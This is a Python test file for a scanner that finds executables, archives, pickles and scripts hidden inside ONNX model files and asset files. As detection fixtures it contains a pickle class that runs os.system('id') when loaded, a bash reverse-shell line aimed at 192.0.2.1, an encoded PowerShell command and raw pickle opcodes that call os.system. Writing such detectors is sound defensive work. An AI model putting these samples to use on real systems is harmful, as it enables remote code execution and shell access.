"""Programs, archives, pickles and scripts where a model only has numbers and descriptions, at any byte of it."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import os
import pickle
import py_compile
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper

from sandbox import assets
from sandbox.inspect import bytes as content
from sandbox.inspect import payloads
from tests import static_world as world
from tests.static_world import Recorder, inspected

pytestmark = pytest.mark.hostile


class Evil:
    """Unpickling it would run a command."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("id",)


def elf() -> bytes:
    """Return the header of a shared object, 64 bits, x86-64."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)


def windows() -> bytes:
    """Return MZ and PE headers of an x86-64 program."""
    dos = (b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(44) + (128).to_bytes(4, "little")).ljust(128, b"\0")
    return dos + b"PE\0\0" + struct.pack("<HH12xHHH", 0x8664, 6, 240, 0x22, 0x20B) + bytes(222)


def macos() -> bytes:
    """Return the header of an arm64 Mach-O program."""
    return struct.pack("<IIIIIIII", 0xFEEDFACF, 0x100000C, 0, 2, 17, 1500, 0, 0)


def java() -> bytes:
    """Return the header of a class file of Java 17."""
    return b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 61, 20) + b"\x0a\0\x02\0\x03" + bytes(40)


def seven_zip() -> bytes:
    """Return the start header of an empty 7z archive."""
    return b"7z\xbc\xaf\x27\x1c\0\x04" + zlib.crc32(bytes(20)).to_bytes(4, "little") + bytes(20)


def zipped(name: str = "evil.py", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip archive with one member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(name, b"import os\n" * 20)
    return out.getvalue()


def tarred() -> bytes:
    """Return a tar archive with one member."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("evil.sh")
        member.size = 3
        archive.addfile(member, io.BytesIO(b"id\n"))
    return out.getvalue()


def objects() -> bytes:
    """Return a NumPy file of Python objects."""
    out = io.BytesIO()
    np.save(out, np.array([{}, 1], object), allow_pickle=True)
    return out.getvalue()


PAYLOADS: dict[str, tuple[Callable[[], bytes], str]] = {
    "elf": (elf, "executable"),
    "elf-without-version": (
        lambda: b"\x7fELF" + struct.pack("<12xHH34xHH6x", 2, 62, 56, 9),
        "executable",
    ),
    "compiled-python": (lambda: b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40), "executable"),
    "windows": (windows, "executable"),
    "macos": (macos, "executable"),
    "java": (java, "executable"),
    "wasm": (lambda: b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0" + bytes(20), "executable"),
    "zip": (zipped, "archive"),
    "zip-stored": (lambda: zipped(method=zipfile.ZIP_STORED), "archive"),
    "tar": (tarred, "archive"),
    "gzip": (lambda: gzip.compress(bytes(99)), "archive"),
    "gzip-text": (lambda: gzip.compress(PROSE.encode() * 40), "archive"),
    "xz": (lambda: lzma.compress(b"payload" * 9), "archive"),
    "bzip2": (lambda: bz2.compress(b"payload" * 9), "archive"),
    "7z": (seven_zip, "archive"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\0" + bytes(40), "archive"),
    "torch": (lambda: zipped("model/data.pkl", zipfile.ZIP_STORED), "pickle"),
    **{f"pickle-{number}": (lambda number=number: pickle.dumps(Evil(), number), "pickle") for number in range(6)},
    "pickle-data": (lambda: pickle.dumps([1] * 40, 4), "pickle"),
    "pickle-old-data": (lambda: pickle.dumps({"a": [1, 2, 3] * 9}, 2), "pickle"),
    "numpy-objects": (objects, "pickle"),
    "script": (lambda: b"#!/bin/sh\nid\n", "script"),
    "command": (lambda: b"x = os.system('id')", "script"),
    "shell": (lambda: b"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "script"),
    "elf-base64": (lambda: base64.b64encode(elf()), "executable"),
    "pickle-base64": (lambda: base64.b64encode(pickle.dumps(Evil(), 4)), "pickle"),
}  # fmt: skip
PROSE = "It was the best of times, it was the worst of times, it was the age of wisdom. "


def model(raw: bytes = b"", **metadata: str) -> onnx.ModelProto:
    """Identity, with an unused weight of ``raw`` bytes."""
    value = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    result = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    weights = [helper.make_tensor("w", TensorProto.UINT8, [len(raw)], raw, raw=True)] if raw else []
    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g", [value], [result], weights)
    made = helper.make_model(graph, ir_version=8, opset_imports=[helper.make_opsetid("", 13)])
    helper.set_model_props(made, metadata)
    return made


def told(recorder: Recorder) -> list[tuple[str, str, str]]:
    """Return kind, place and message of each payload."""
    problems = [one for frame in recorder.frames.values() for one in frame.get("problems", ())]
    return [
        (one["code"].removeprefix("payload/"), one["where"], one["message"])
        for one in problems
        if one["code"].startswith("payload/")
    ]


def noise(size: int) -> bytes:
    """Return random bytes, the same each time."""
    return np.random.default_rng(size).bytes(size)


@pytest.mark.parametrize("at", [0, 1, 777, (1 << 20) - 3, (1 << 20) + 131_071], ids=str)
@pytest.mark.parametrize("name", PAYLOADS)
def test_a_payload_at_any_byte_of_an_unused_weight(tmp_path: Path, name: str, at: int) -> None:
    payload, kind = PAYLOADS[name][0](), PAYLOADS[name][1]
    # Kept from running into an argument of the payload's own: a line ends, a base64 text ends.
    hidden = noise(at) + payload + b"\n \0" + noise(300)
    ((found, where, message), *_) = told(inspected(tmp_path, model(hidden)))
    assert found == kind
    assert where.startswith("graph/initializer[0] w")
    raw = (tmp_path / "model.onnx").read_bytes()
    begin = int(message.partition(" byte ")[2].partition(",")[0])
    shown = bytes.fromhex(message.partition("begins ")[2].partition(" (")[0])
    assert raw[begin : begin + 16] == shown, "the place and the first bytes are those of the file"
    assert raw.index(payload[:4]) - 4 <= begin < raw.index(payload) + len(payload)


@pytest.mark.parametrize("before", range(5))
def test_a_mark_across_two_blocks_of_the_pass(before: int) -> None:
    at = content.CHUNK - before
    source = content.BytesSource(noise(at) + elf() + bytes(64))
    scanner = payloads.Scanner(source)
    content.read(source, [scanner])
    assert [(hit.at, hit.what) for hit in scanner.hits] == [(at, "an ELF program")]


def in_body(raw: bytes) -> onnx.ModelProto:
    """Hide it in a constant of a function's body."""
    body = [
        helper.make_node(
            "Constant", [], ["q"], value=helper.make_tensor("c", TensorProto.UINT8, [len(raw)], raw, raw=True)
        )
    ]
    function = helper.make_function("local", "F", ["p"], ["q"], body, [helper.make_opsetid("", 18)])
    return world.model([helper.make_node("F", ["x"], ["y"], domain="local")], functions=[function])


def in_branch(raw: bytes) -> onnx.ModelProto:
    """Hide it in a string attribute of a node in a branch."""
    node = helper.make_node("Constant", [], ["e"], value_string=raw)
    branch = helper.make_graph([node], "b", [], [world.value("e")])
    chosen = helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch)
    return world.model([chosen], inputs=[world.value("c", [], TensorProto.BOOL)])


def in_strings(raw: bytes) -> onnx.ModelProto:
    """Hide it in a string tensor."""
    return world.model(
        initializer=[TensorProto(name="s", data_type=TensorProto.STRING, dims=[2], string_data=[b"a", raw])]
    )


def in_typed_data(raw: bytes) -> onnx.ModelProto:
    """Hide it in doubles that are no raw data."""
    padded = raw.ljust((len(raw) + 7) // 8 * 8, b"\0")
    tensor = TensorProto(name="d", data_type=TensorProto.DOUBLE, dims=[len(padded) // 8])
    tensor.double_data.extend(np.frombuffer(padded, np.float64).tolist())
    return world.model(initializer=[tensor])


def in_sparse(raw: bytes) -> onnx.ModelProto:
    """Hide it in the values of a sparse initializer."""
    values = helper.make_tensor("v", TensorProto.UINT8, [len(raw)], raw, raw=True)
    indices = helper.make_tensor("i", TensorProto.INT64, [len(raw)], list(range(len(raw))))
    return world.model(sparse_initializer=[helper.make_sparse_tensor(values, indices, [len(raw)])])


def in_training(raw: bytes) -> onnx.ModelProto:
    """Hide it in a training graph."""
    built = world.model()
    built.training_info.add().algorithm.CopyFrom(
        helper.make_graph([], "t", [], [], [helper.make_tensor("w", TensorProto.UINT8, [len(raw)], raw, raw=True)])
    )
    return built


HIDING = {
    "functions[0] F/node[0] Constant/value": in_body,
    "graph/node[0] If/then_branch/node[0] Constant/value_string": in_branch,
    "graph/initializer[0] s": in_strings,
    "graph/initializer[0] d": in_typed_data,
    "graph/sparse_initializer[0]/values": in_sparse,
    "training_info[0]/algorithm/initializer[0] w": in_training,
}


@pytest.mark.parametrize("place", HIDING)
def test_a_program_in_an_unexpected_place(tmp_path: Path, place: str) -> None:
    found = told(inspected(tmp_path, HIDING[place](b"wxyz" + elf() + bytes(8))))
    places = {(kind, where.partition(", ")[0]) for kind, where, _ in found}
    assert any(kind == "executable" and where.startswith(place) for kind, where in places), found


def test_metadata_and_documentation(tmp_path: Path) -> None:
    hidden = model(note=base64.b64encode(elf()).decode(), plain="ordinary words")
    hidden.doc_string = "#!/bin/sh\nid\n"
    hidden.graph.doc_string = "see below: __import__('os').system('id')"
    hidden.graph.node[0].doc_string = "powershell -enc ZQB2AGkAbAA="
    hidden.graph.node[0].metadata_props.add(key="k", value="/bin/sh -c id")
    found = {
        (kind, where.partition(", ")[0].split(" value")[0]) for kind, where, _ in told(inspected(tmp_path, hidden))
    }
    assert {where.split("/")[0] for kind, where in found if kind == "script"} >= {"doc_string", "graph"}
    assert any(kind == "executable" and where.startswith("metadata_props[0]") for kind, where in found), found


def test_a_url_is_told_and_weighs_nothing(tmp_path: Path) -> None:
    from acceptd.judge.codes import CODES

    found = told(inspected(tmp_path, model(source="see https://models.example.com/a?b=1 for more")))
    assert [(kind, where.startswith("metadata_props[0]")) for kind, where, _ in found] == [("url", True)]
    assert CODES["payload/url"].severity == "info"


def test_a_flood_of_addresses_hides_no_program(tmp_path: Path) -> None:
    found = told(inspected(tmp_path, model(b"https://models.example.com/ " * 5000 + elf() + bytes(64))))
    assert {kind for kind, *_ in found} == {"url", "executable"}


def test_more_marks_than_are_looked_at_are_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(payloads, "MAX_CANDIDATES", 1000)
    found = told(inspected(tmp_path, model(b"PK\x03\x04" * 1200 + elf() + bytes(64))))
    assert [kind for kind, *_ in found] == ["flood"]


@pytest.mark.parametrize("name", ["elf", "zip", "pickle-0", "pickle-2", "script"])
def test_a_payload_in_external_data_inside_and_outside_the_tensors(tmp_path: Path, name: str) -> None:
    payload, kind = PAYLOADS[name][0](), PAYLOADS[name][1]
    hidden = noise(5001) + payload + b"\n\0"
    data = (hidden + noise(64)).ljust(8192, b"\0") + bytes(100) + payload + b"\n\0" + bytes(500)
    tensor = world.external(world.weight(dims=(2048,)), location="w/weights.bin", offset="0", length="8192")
    found = told(inspected(tmp_path, world.with_weight(tensor), files={"w/weights.bin": data}))
    ours = [(where, message) for one, where, message in found if one == kind]
    assert ours[0][0].startswith("graph/initializer[0] w")
    assert "w/weights.bin, byte 50" in ours[0][1]
    if kind != "script" and kind != "pickle" and kind != "archive":  # what lies close is told once
        assert ours[1][0] == "w/weights.bin, outside all tensors of this model"


def test_weights_and_words_are_no_payload(tmp_path: Path) -> None:
    weights = np.random.default_rng(7).standard_normal(1 << 16).astype(np.float32).tobytes()
    assert told(inspected(tmp_path, model(weights, author="somebody", labels='{"0": "cat"}'))) == []


@pytest.mark.parametrize(
    "mark",
    [
        b"\x7fELF", b"\x7fELF\x02\x01", b"MZ", b"MZ\x90\0", b"PE\0\0", b"PK\x03\x04", b"\x1f\x8b\x08\0",
        b"\xca\xfe\xba\xbe", b"7z\xbc\xaf\x27\x1c", b"\xfd7zXZ\0", b"\x80\x04\x95", b"\x80\x02}",
        b"?\x80\x02]q\0.",
        b"ustar\0", b"cos\n", b"#!/b", b"subprocess", b"\x28\xb5\x2f\xfd", b"BZh9", b"\x93NUMPY", b"http", b"gASV",
    ],
)  # fmt: skip
def test_a_mark_without_evidence_gets_no_name(tmp_path: Path, mark: bytes) -> None:
    for seed in range(4):
        fill = np.random.default_rng(seed).bytes(9000)
        assert told(inspected(tmp_path, model(mark + fill[:5000] + mark + fill))) == []


# -- files that no model reads


def looked_at(root: Path, gaps: dict[str, list[list[int]]] | None = None, **files: bytes) -> Recorder:
    """Write files (``__`` for a dot) and run the assets job over them."""
    names = {name.replace("__", "."): data for name, data in files.items()}
    for name, data in names.items():
        (root / name).write_bytes(data)
    spec = {"root": str(root), "files": [name for name in names if name not in (gaps or {})], "gaps": gaps or {}}
    return world.recorded(assets.body, spec)


def compiled(root: Path) -> bytes:
    """Return compiled Python."""
    source = root / "source"
    source.write_text("import os\n")
    target = py_compile.compile(str(source), cfile=str(root / "compiled"), doraise=True)
    assert target is not None
    return Path(target).read_bytes()


@pytest.mark.parametrize("name", [name for name in PAYLOADS if name not in {"command", "shell"}])
def test_a_payload_as_a_file_whatever_its_name(tmp_path: Path, name: str) -> None:
    payload, kind = PAYLOADS[name][0](), PAYLOADS[name][1]
    found = told(looked_at(tmp_path, labels__txt=payload))
    assert (kind, "labels.txt") in {(one, where) for one, where, _ in found}, found


def test_code_as_a_file(tmp_path: Path) -> None:
    found = told(
        looked_at(
            tmp_path,
            tokenizer__py=b"# comment\nimport torch\n\ndef run(x):\n    return x\n",
            merges__txt=b"import os\nfrom sys import argv\nos.system('id')\n",
            setup__bat=b"echo hello\r\n",
            cached__bin=compiled(tmp_path),
        )
    )
    assert {(kind, where) for kind, where, _ in found} == {
        ("script", "tokenizer.py"),
        ("script", "merges.txt"),
        ("script", "setup.bat"),
        ("executable", "cached.bin"),
    }


def test_ordinary_files_are_no_payload(tmp_path: Path) -> None:
    numbers = io.BytesIO()
    np.save(numbers, np.arange(1000.0))
    found = looked_at(
        tmp_path,
        README__md=b"# Model\n\n```sh\n#!/bin/sh\n/bin/sh -c id\n```\n\n```python\nimport os\nos.system('')\n```",
        tokenizer__json=b'{"version": "1.0", "vocab": {"import": 1, "class": 2, "#!/bin/sh": 3}}',
        labels__txt="cat\ndog\nimport\nclass A\nÄther\n".encode(),
        LICENSE=b"Apache License\nhttps://www.apache.org/licenses/\n",
        mean__npy=numbers.getvalue(),
        empty=b"",
    )
    assert told(found) == []
    assert found.frames["assets"]["files"] == 6


def test_bytes_between_tensors_that_are_not_zero(tmp_path: Path) -> None:
    data = bytes(100) + b"\0\0hidden" + bytes(92) + bytes(100)
    found = looked_at(tmp_path, gaps={"w.bin": [[0, 100], [100, 200], [200, 300]]}, w__bin=data)
    frame = found.frames["assets"]
    assert frame["gaps_read"] == 3
    (gap,) = frame["gaps"]
    assert (gap["start"], gap["at"], gap["head"][:8]) == (100, 102, b"hid".hex(" "))


@pytest.mark.parametrize(
    "raw",
    [
        b"ctimeit\ntimeit\n(S'id'\ntR.",
        b"(S'id'\nitimeit\ntimeit\n.",
        b"X\x02\0\0\0osX\x06\0\0\0system\x93(S'id'\ntR.",
        b"Vos\nVsystem\n\x93(Vid\ntR.",
    ],
    ids=["global", "inst", "stack-global", "stack-global-lines"],
)
def test_a_file_that_is_a_pickle_without_a_mark(raw: bytes) -> None:
    scanner = payloads.Scanner(content.BytesSource(raw))
    content.read(content.BytesSource(raw), [scanner])
    scanner.begins(0)
    assert [(hit.code, hit.at) for hit in scanner.hits] == [("payload/pickle", 0)]


@pytest.mark.parametrize(
    "raw", [b"cat\ndog\nbird\n.\n", b"cat\ndog\n.", b"I1\n.", b"import os\n", b"(a)\n."], ids=range(5)
)
def test_a_list_of_words_is_no_pickle(raw: bytes) -> None:
    scanner = payloads.Scanner(content.BytesSource(raw))
    content.read(content.BytesSource(raw), [scanner])
    scanner.begins(0)
    assert scanner.hits == []
